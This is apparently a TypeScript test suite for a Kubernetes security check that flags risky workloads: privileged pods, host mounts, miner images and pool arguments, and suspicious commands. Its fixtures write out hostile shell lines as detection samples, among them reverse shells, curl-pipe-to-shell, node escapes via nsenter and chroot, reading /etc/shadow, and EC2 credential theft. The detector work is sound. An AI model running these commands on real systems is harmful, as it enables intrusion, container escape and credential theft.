import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { DetailsByCheck } from '../../functions/checks/index.ts';
import { workloads } from '../../functions/checks/workloads.ts';
import {
  ask,
  cluster,
  detailsOf,
  type Fault,
  Faulty,
  RUBBISH_LISTS,
  SETTINGS,
  textOf,
  timePasses,
} from './clusters.ts';
import { finding } from './examples.ts';

const DIGEST = `sha256:${'0123456789abcdef'.repeat(4)}`;
const controlledBy = (kind: string, name: string) => ({
  ownerReferences: [{ kind, name, uid: 'u', controller: true }],
});
const container = (overrides: object = {}) => ({ name: 'main', image: `repo/app@${DIGEST}`, ...overrides });
const spec = (overrides: object = {}) => ({ containers: [container()], ...overrides });
const object = (name: string, metadata: object, rest: object) => ({
  metadata: { name, namespace: 'shop', ...metadata },
  ...rest,
});
const pod = (name: string, podSpec: object, metadata: object = {}, status: object = { phase: 'Running' }) =>
  object(name, metadata, { spec: podSpec, status });
const template = (podSpec: object, more: object = {}) => ({ spec: { template: { spec: podSpec }, ...more } });

/** The signs of a pod that a Deployment makes, beyond those that every such pod has. */
async function signsOf(podSpec: object, usualRegistries: string[] = []) {
  const kubernetes = cluster({ Deployment: [object('d', {}, template(podSpec))] });
  const answer = await ask(workloads, kubernetes, finding(), { settings: { ...SETTINGS, usualRegistries } });
  return detailsOf<DetailsByCheck['workloads']>(answer).workloads[0]?.signs ?? [];
}
const withContainer = (overrides: object) => spec({ containers: [container(overrides)] });

describe('what can write the files of the node', () => {
  const mounting = (path: string, mount: object) =>
    spec({
      volumes: [
        { name: 'v', hostPath: { path } },
        { name: 'w', emptyDir: {} },
      ],
      containers: [{ name: 'main', volumeMounts: [{ mountPath: '/v', ...mount }] }],
    });

  test.each<[string, object, string[]]>([
    ['a writable mount', mounting('/etc', { name: 'v' }), ['host-write', 'host-path']],
    ['one that is to be read', mounting('/var/log', { name: 'v', readOnly: true }), ['host-path']],
    ['one whose readOnly is text', mounting('/var/log', { name: 'v', readOnly: 'true' }), ['host-write', 'host-path']],
    [
      'the socket of the container runtime',
      mounting('/run/containerd/containerd.sock', { name: 'v', readOnly: true }),
      ['host-write', 'host-path'],
    ],
    ['another volume', mounting('/etc', { name: 'w' }), ['host-path']],
  ])('%s', async (_, podSpec, expected) => {
    expect((await signsOf(podSpec)).map(({ sign }) => sign)).toEqual(expected);
  });
});

describe('signs', () => {
  test.each<[string, object, string, string]>([
    ['privileged', withContainer({ securityContext: { privileged: true } }), 'privileged', 'container main'],
    [
      'privileged, as a Windows pod says it',
      spec({ securityContext: { windowsOptions: { hostProcess: true } } }),
      'privileged',
      'Windows HostProcess',
    ],
    ['hostPID', spec({ hostPID: true }), 'host-pid', 'hostPID of the node'],
    ['hostNetwork', spec({ hostNetwork: true }), 'host-network', 'hostNetwork of the node'],
    ['hostIPC', spec({ hostIPC: true }), 'host-ipc', 'hostIPC of the node'],
    [
      'hostPath',
      spec({ volumes: [{ name: 'v', hostPath: { path: '/var/run/docker.sock' } }] }),
      'host-path',
      'volume v is /var/run/docker.sock of the node',
    ],
    ['hostPort', withContainer({ ports: [{ hostPort: 80 }] }), 'host-port', 'container main: port 80 of the node'],
    [
      'capabilities',
      withContainer({ securityContext: { capabilities: { add: ['CHOWN', 'SYS_ADMIN', 'cap_net_admin'] } } }),
      'dangerous-capability',
      'container main: SYS_ADMIN, cap_net_admin',
    ],
    [
      'all capabilities',
      withContainer({ securityContext: { capabilities: { add: ['ALL'] } } }),
      'dangerous-capability',
      'container main: ALL',
    ],
    [
      'NET_RAW',
      withContainer({ securityContext: { capabilities: { add: ['NET_RAW'] } } }),
      'dangerous-capability',
      'container main: NET_RAW',
    ],
    [
      'privilege escalation',
      withContainer({ securityContext: { allowPrivilegeEscalation: true } }),
      'privilege-escalation',
      'container main',
    ],
    ['root', withContainer({ securityContext: { runAsUser: 0 } }), 'runs-as-root', 'container main'],
    ['root, for the whole pod', spec({ securityContext: { runAsUser: 0 } }), 'runs-as-root', 'container main'],
    [
      'a token of a chosen account',
      spec({ serviceAccountName: 'deployer', automountServiceAccountToken: true }),
      'service-account-token',
      'token of ServiceAccount deployer',
    ],
    [
      'a token of a chosen account, as a pod that runs has it',
      spec({
        serviceAccountName: 'deployer',
        volumes: [
          {
            name: 'kube-api-access-x',
            projected: { sources: [{ serviceAccountToken: { path: 'token' } }, { configMap: {} }] },
          },
        ],
      }),
      'service-account-token',
      'token of ServiceAccount deployer',
    ],
    [
      'a token for AWS',
      spec({ volumes: [{ projected: { sources: [{ serviceAccountToken: { audience: 'sts.amazonaws.com' } }] } }] }),
      'service-account-token',
      'token of ServiceAccount default for sts.amazonaws.com',
    ],
    ['a tag', withContainer({ image: 'nginx:1.2' }), 'image-by-tag', 'nginx:1.2'],
    [
      'a miner image',
      withContainer({ image: `ghcr.io/x/XMRig@${DIGEST}` }),
      'miner-image',
      `ghcr.io/x/XMRig@${DIGEST}`,
    ],
    [
      'a mining pool among the arguments',
      withContainer({ args: ['-o', 'pool.supportxmr.com:443', '-u', 'wallet-49A'] }),
      'miner-argument',
      'container main: an argument names the mining pool supportxmr.com',
    ],
    [
      'Stratum in the command',
      withContainer({ command: ['sh', '-c', 'run stratum+ssl://203.0.113.9:443'] }),
      'miner-argument',
      'container main: an argument speaks to a mining pool (Stratum)',
    ],
    [
      'a mining pool in the environment',
      withContainer({ env: [{ name: 'URL', value: 'daemon+https://node:18081' }] }),
      'miner-argument',
      'container main: an environment variable speaks to a mining pool (Stratum)',
    ],
    [
      'an option of XMRig',
      withContainer({ args: ['--donate-level=1'] }),
      'miner-argument',
      'container main: an argument holds an option of XMRig',
    ],
    [
      'an algorithm',
      withContainer({ args: ['--algo', 'rx/0'] }),
      'miner-argument',
      'container main: an argument names a mining algorithm',
    ],
    ...[
      ['sh -c "curl -s https://x/install | sh"', 'runs a script that it fetches or decodes'],
      ['wget -qO- https://x | tee log | sudo bash -s', 'runs a script that it fetches or decodes'],
      ['echo aGk= | base64 -d | bash', 'runs a script that it fetches or decodes'],
      ['chmod +x /tmp/.x; /tmp/.x', 'makes a file in a temporary folder a program'],
      ['nsenter -t 1 -m -u sh', 'enters namespaces of the node (nsenter)', 'node-entry'],
      ['chroot /host bash', 'enters the file system of the node (chroot)', 'node-entry'],
      ['cat /proc/1/root/etc/shadow', 'enters the file system of the node (/proc/1/root)', 'node-entry'],
      ['ctr -a /run/containerd/containerd.sock run x', "speaks to the node's container runtime", 'node-entry'],
      ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'opens a reverse shell', 'reverse-shell'],
      ['nc 203.0.113.9 443 -e /bin/sh', 'opens a reverse shell', 'reverse-shell'],
      ['ncat --exec /bin/sh 203.0.113.9 443', 'opens a reverse shell', 'reverse-shell'],
      ['socat TCP:203.0.113.9:443 EXEC:/bin/sh', 'connects a program to the network (socat)', 'reverse-shell'],
      [
        'mkfifo /tmp/f; sh -i < /tmp/f | openssl s_client -connect x:443 > /tmp/f',
        'connects a shell to the network by a pipe',
        'reverse-shell',
      ],
      [
        'mkfifo /tmp/f; nc 203.0.113.9 443 < /tmp/f | sh > /tmp/f',
        'connects a shell to the network by a pipe',
        'reverse-shell',
      ],
      [`python3 -c 'import pty;pty.spawn("sh")'`, 'connects a shell to the network in a script', 'reverse-shell'],
      ['curl http://169.254.169.254/latest/meta-data/', "names EC2's instance metadata service", 'metadata-access'],
      [
        'curl -s http://$IMDS/latest/meta-data/iam/security-credentials/',
        "fetches the keys of the node's role from EC2's instance metadata service",
        'node-credentials',
      ],
    ].map(([command = '', says = '', sign = 'suspicious-command']): [string, object, string, string] => [
      `the command ${command}`,
      withContainer({ command: ['sh', '-c', command] }),
      sign,
      `container main: an argument ${says}`,
    ]),
    [
      "each other's processes",
      spec({ shareProcessNamespace: true }),
      'share-process-namespace',
      'shareProcessNamespace',
    ],
    [
      'the control plane',
      spec({ tolerations: [{ key: 'node-role.kubernetes.io/control-plane', effect: 'NoSchedule' }] }),
      'control-plane-toleration',
      'tolerates node-role.kubernetes.io/control-plane',
    ],
    [
      'every node',
      spec({ tolerations: [{ operator: 'Exists' }] }),
      'control-plane-toleration',
      'tolerates every taint',
    ],
    [
      'an init container',
      spec({ initContainers: [{ name: 'i', image: `a@${DIGEST}`, securityContext: { privileged: true } }] }),
      'privileged',
      'init container i',
    ],
    [
      'an ephemeral container',
      spec({ ephemeralContainers: [{ name: 'debug', image: `a@${DIGEST}`, securityContext: { privileged: true } }] }),
      'privileged',
      'ephemeral container debug',
    ],
  ])('%s', async (_, podSpec, sign, detail) => {
    expect(await signsOf(podSpec)).toEqual([{ sign, detail }]);
  });

  test.each<[string, object]>([
    ['of an ordinary pod', spec()],
    [
      'of a careful pod',
      withContainer({ securityContext: { privileged: false, allowPrivilegeEscalation: false, runAsUser: 1000 } }),
    ],
    [
      'of a container that is not root in a pod that is',
      spec({ securityContext: { runAsUser: 0 }, containers: [container({ securityContext: { runAsUser: 7 } })] }),
    ],
    [
      'of harmless capabilities',
      withContainer({ securityContext: { capabilities: { add: ['NET_BIND_SERVICE', 'CAP_CHOWN'], drop: ['ALL'] } } }),
    ],
    [
      'of the token of the default account',
      spec({ volumes: [{ projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } }] }),
    ],
    [
      'of an account whose token is not mounted',
      spec({ serviceAccountName: 'x', automountServiceAccountToken: false }),
    ],
    ['of an ordinary toleration', spec({ tolerations: [{ key: 'node.kubernetes.io/not-ready', operator: 'Exists' }] })],
    ['of a name that only sounds like mining', withContainer({ image: `derow/determiner@${DIGEST}` })],
    [
      'of a domain that only ends like a pool',
      withContainer({ args: ['https://not-nicehash.com', 'nicehash.community'] }),
    ],
    [
      'of a command that fetches and keeps',
      withContainer({ args: ['curl -o /tmp/x https://x && cat x | sort', 'show | sh'] }),
    ],
    ['of a port that is not a port', withContainer({ ports: [{ hostPort: 0 }, { containerPort: 80 }] })],
  ])('are not those %s', async (_, podSpec) => {
    expect(await signsOf(podSpec)).toEqual([]);
  });

  test.each<[string, string[], boolean]>([
    ['111122223333.dkr.ecr.eu-central-1.amazonaws.com/app', ['*.dkr.ecr.*'], false],
    ['quay.io/x/app', ['*.dkr.ecr.*'], true],
    ['nginx', ['docker.io'], false],
    ['nginx', ['docker.io/library/*'], false],
    ['library/nginx', ['docker.io/library/*'], false],
    ['evil/nginx', ['docker.io/library/*'], true],
    ['docker.io.evil.example/library/nginx', ['docker.io'], true],
    ['quay.io/x/app', [], false],
  ])('%s, where %j are usual, is of an unusual registry: %s', async (image, usual, unusual) => {
    const signs = await signsOf(withContainer({ image: `${image}@${DIGEST}` }), usual);
    expect(signs.map(({ sign }) => sign)).toEqual(unusual ? ['unusual-registry'] : []);
  });

  test('a pod without a controller', async () => {
    const kubernetes = cluster({ Pod: [pod('lonely', spec())] });
    expect(detailsOf<DetailsByCheck['workloads']>(await ask(workloads, kubernetes)).workloads).toMatchObject([
      { kind: 'Pod', name: 'lonely', signs: [{ sign: 'bare-pod', detail: 'nothing controls it' }] },
    ]);
  });

  test('values never reach the evidence', async () => {
    const hidden = 'wallet-49A-secret';
    const kubernetes = cluster({
      Pod: [
        pod(
          'p',
          withContainer({
            command: [`stratum+tcp://pool.minexmr.com/${hidden}`],
            args: [hidden, '-p', 'nanopool.org'],
            env: [
              { name: 'PASSWORD', value: hidden },
              { name: 'POOL', value: `${hidden}@hashvault.pro` },
            ],
          }),
        ),
      ],
    });
    const answer = await ask(workloads, kubernetes);
    expect(detailsOf<DetailsByCheck['workloads']>(answer).workloads[0]?.signs).toHaveLength(4);
    expect(JSON.stringify(answer)).not.toContain(hidden);
  });

  test('hostile text takes no time', async () => {
    const hostile = [
      'curl '.repeat(200_000),
      'curl |'.repeat(150_000),
      'nc '.repeat(300_000),
      'stratum+'.repeat(100_000),
    ];
    const from = performance.now();
    expect(await signsOf(withContainer({ args: hostile }))).toEqual([]);
    expect(performance.now() - from).toBeLessThan(1_500);
  });

  test('hostile names are shortened', async () => {
    const signs = await signsOf(spec({ volumes: [{ name: 'v', hostPath: { path: `/${'x'.repeat(100_000)}` } }] }));
    expect(signs[0]?.detail.length).toBeLessThanOrEqual(160);
  });
});

describe('workloads', () => {
  const replicas = (count: number, owner: string) =>
    Array.from({ length: count }, (_, index) => pod(`${owner}-${index}`, spec(), controlledBy('ReplicaSet', owner)));

  test('are the topmost controllers, with their pods', async () => {
    const kubernetes = cluster({
      Deployment: [
        object('web', { creationTimestamp: '2026-11-23T10:00:30Z' }, template(spec({ serviceAccountName: 'web' }))),
      ],
      ReplicaSet: [
        object(
          'web-1',
          controlledBy('Deployment', 'web'),
          template(spec({ containers: [container({ image: 'old' })] }), { replicas: 0 }),
        ),
        object('web-2', controlledBy('Deployment', 'web'), template(spec(), { replicas: 3 })),
        object('rollout-1', controlledBy('Rollout', 'rollout'), template(spec(), { replicas: 1 })),
      ],
      Job: [object('nightly-1', controlledBy('CronJob', 'nightly'), template(spec()))],
      CronJob: [object('nightly', {}, { spec: { jobTemplate: template(spec({ hostPID: true })) } })],
      DaemonSet: [object('agent', {}, template(spec()))],
      Pod: [
        ...replicas(3, 'web-2'),
        pod('nightly-1-x', spec(), controlledBy('Job', 'nightly-1'), { phase: 'Succeeded' }),
        pod('rollout-1-x', spec(), controlledBy('ReplicaSet', 'rollout-1')),
        pod('custom-x', spec(), controlledBy('Custom', 'custom')),
        pod('static', spec(), { ...controlledBy('Node', 'n'), annotations: { 'kubernetes.io/config.mirror': 'x' } }),
        pod('pretends', spec(), controlledBy('Node', 'n')),
      ],
    });
    const details = detailsOf<DetailsByCheck['workloads']>(await ask(workloads, kubernetes));
    expect(details.workloads.map(({ kind, name, pods }) => `${kind} ${name} ${pods}`)).toEqual([
      'CronJob nightly 1',
      'Pod pretends 1',
      'DaemonSet agent 0',
      'Custom custom 1',
      'Node n 1',
      'Rollout rollout 1',
      'Deployment web 3',
    ]);
    expect(details).toMatchObject({ total: 7, daemonSets: 1, cronJobs: 1, pods: { total: 8, running: 7 } });
    expect(details.workloads.at(-1)).toMatchObject({
      createdAt: '2026-11-23T10:00:30Z',
      serviceAccount: 'web',
      images: [`repo/app@${DIGEST}`],
    });
  });

  test('that own each other in a circle end', async () => {
    const kubernetes = cluster({
      Deployment: [object('a', controlledBy('StatefulSet', 'b'), template(spec()))],
      StatefulSet: [object('b', controlledBy('Deployment', 'a'), template(spec()))],
    });
    expect(detailsOf<DetailsByCheck['workloads']>(await ask(workloads, kubernetes)).total).toBeGreaterThan(0);
  });

  test('the most dangerous come first, and are named', async () => {
    const kubernetes = cluster({
      Deployment: [
        object('tags', {}, template(withContainer({ image: 'x' }))),
        object('miner', {}, template(withContainer({ image: `xmrig@${DIGEST}` }))),
        object(
          'both',
          {},
          template(spec({ hostPID: true, containers: [container({ securityContext: { privileged: true } })] })),
        ),
      ],
    });
    const answer = await ask(workloads, kubernetes);
    expect(detailsOf<DetailsByCheck['workloads']>(answer).workloads.map(({ name }) => name)).toEqual([
      'both',
      'miner',
      'tags',
    ]);
    expect(answer.status).toBe('found');
    expect(textOf(answer)).toBe(
      '3 workloads, 0 pods (0 running); suspicious: Deployment both (privileged, host-pid); Deployment miner (miner-image).',
    );
  });

  test.each([
    ['nothing', {}, 'clear', 'Nothing runs in the namespace.'],
    ['an ordinary one', { Deployment: [object('d', {}, template(spec()))] }, 'clear', 'none suspicious'],
    ['a DaemonSet', { DaemonSet: [object('d', {}, template(spec()))] }, 'found', 'including 1 DaemonSet; none'],
    ['a CronJob', { CronJob: [object('d', {}, { spec: { jobTemplate: template(spec()) } })] }, 'found', '1 CronJob'],
  ])('%s', async (_, objects, status, text) => {
    const answer = await ask(workloads, cluster(objects));
    expect(answer.status).toBe(status);
    expect(textOf(answer)).toContain(text);
  });

  test('images are those that pods run, by digest where the kubelet told it', async () => {
    const status = (imageID: string) => ({
      phase: 'Running',
      containerStatuses: [{ name: 'main', imageID }],
      podIPs: [{ ip: '10.0.0.1' }, { ip: 'fd00::1' }],
    });
    const tagged = withContainer({ image: 'registry.example:5000/app:1' });
    const kubernetes = cluster({
      Pod: [
        pod('a', tagged, {}, status(`registry.example:5000/app@${DIGEST}`)),
        pod('b', tagged, {}, status(`docker-pullable://registry.example:5000/app@${DIGEST}`)),
        pod('c', tagged, {}, { ...status(DIGEST), podIPs: [{ ip: '10.0.0.2' }] }),
        pod('d', spec({ hostNetwork: true }), {}, status('')),
      ],
    });
    const { images, podIps } = detailsOf<DetailsByCheck['workloads']>(await ask(workloads, kubernetes));
    expect(images).toEqual([
      { image: 'registry.example:5000/app:1', digest: DIGEST, registry: 'registry.example:5000', pods: 2 },
      { image: 'registry.example:5000/app:1', registry: 'registry.example:5000', pods: 1 },
      { image: `repo/app@${DIGEST}`, digest: DIGEST, registry: 'docker.io', pods: 1 },
    ]);
    expect(podIps).toEqual(['10.0.0.1', 'fd00::1', '10.0.0.2']);
  });

  test('of many there are the first, and the whole count', async () => {
    const Pod = Array.from({ length: 2_000 }, (_, index) => pod(`p${index}`, withContainer({ image: `i${index}:1` })));
    const from = performance.now();
    const details = detailsOf<DetailsByCheck['workloads']>(await ask(workloads, cluster({ Pod })));
    expect(performance.now() - from).toBeLessThan(1_500);
    expect(details).toMatchObject({ total: 2_000, pods: { total: 2_000 } });
    expect([details.workloads.length, details.images.length]).toEqual([50, 50]);
    expect(JSON.stringify(details).length).toBeLessThan(30_000);
  });
});

describe('a cluster that fails', () => {
  const busy = cluster({ Deployment: [object('d', {}, template(spec()))], Pod: [pod('p', spec({ hostPID: true }))] });

  test.each<[string, Record<string, Fault>, string]>([
    ['one kind denied', { cronjobs: 'denied' }, 'Could not look at: CronJobs (denied).'],
    ['pods denied', { '/pods': 'denied' }, 'Could not look at: Pods (denied).'],
    ['two kinds failing', { '/apis/batch': 'failing' }, 'Could not look at: Jobs (failed: KubernetesError'],
    [
      'more than is read',
      { '/pods': { answers: { items: [pod('a', spec())], complete: false } } },
      'Pods beyond the first 1.',
    ],
    ['null for a listing', { '/pods': { answers: null } }, 'Could not look at: Pods'],
    ['a listing without items', { '/pods': { answers: { complete: true } } }, 'Could not look at: Pods'],
  ])('%s is said, and the rest told', async (_, faults, text) => {
    const answer = await ask(workloads, new Faulty(busy, faults));
    expect(answer.status).toBe('found');
    expect(textOf(answer)).toContain(text);
    expect(detailsOf<DetailsByCheck['workloads']>(answer).missing).toHaveLength(text.includes('Jobs (failed') ? 2 : 1);
  });

  test('nothing found where not all could be looked at is not clear', async () => {
    const answer = await ask(workloads, new Faulty(cluster(), { '/pods': 'denied' }));
    expect(answer).toMatchObject({ status: 'not-checked', reason: expect.stringContaining('Pods (denied)') });
  });

  test('nothing at all', async () => {
    const answer = await ask(workloads, new Faulty(busy, { '/': 'denied' }));
    expect(answer.status).toBe('not-checked');
  });

  test('a kind that does not answer is left behind', async () => {
    const answer = await timePasses(6_000, () => ask(workloads, new Faulty(busy, { '/pods': 'silent' })));
    expect(textOf(answer)).toContain('Could not look at: Pods (no answer in time).');
  });

  test.each(RUBBISH_LISTS)('%j does no harm', async (answers) => {
    const answer = await ask(workloads, new Faulty(cluster(), { shop: { answers } }));
    expect(answer.status).not.toBe('not-checked');
    expect(textOf(answer)).not.toContain('Error');
  });

  test('whatever objects hold does no harm', async () => {
    const json = fc.jsonValue();
    const field = fc.constantFrom(
      'containers',
      'initContainers',
      'securityContext',
      'capabilities',
      'add',
      'env',
      'value',
      'args',
      'volumes',
      'hostPath',
      'path',
      'projected',
      'sources',
      'tolerations',
      'ports',
      'image',
      'name',
      'serviceAccountName',
    );
    const tree = fc.letrec((tie) => ({
      node: fc.oneof({ maxDepth: 6 }, json, fc.array(tie('node'), { maxLength: 3 }), fc.dictionary(field, tie('node'))),
    })).node;
    const any = fc.record(
      { metadata: fc.oneof(json, fc.record({ name: json, ownerReferences: tree })), spec: tree, status: tree },
      { requiredKeys: [] },
    );
    await fc.assert(
      fc.asyncProperty(fc.array(any, { maxLength: 4 }), async (items) => {
        const answer = await ask(workloads, new Faulty(cluster(), { shop: { answers: { items, complete: true } } }));
        expect(answer.status).not.toBe('not-checked');
      }),
      { numRuns: 300 },
    );
  });

  test('is not asked without the name of the namespace', async () => {
    expect((await ask(workloads, busy, finding({ namespace: {} }))).status).toBe('not-checked');
  });
});

test('names where a person can look', () => {
  expect(workloads.source?.(finding())?.command).toEqual([
    'kubectl',
    'get',
    'deployments,replicasets,statefulsets,daemonsets,jobs,cronjobs,replicationcontrollers,pods',
    '--namespace',
    'shop',
    '--output',
    'wide',
  ]);
});
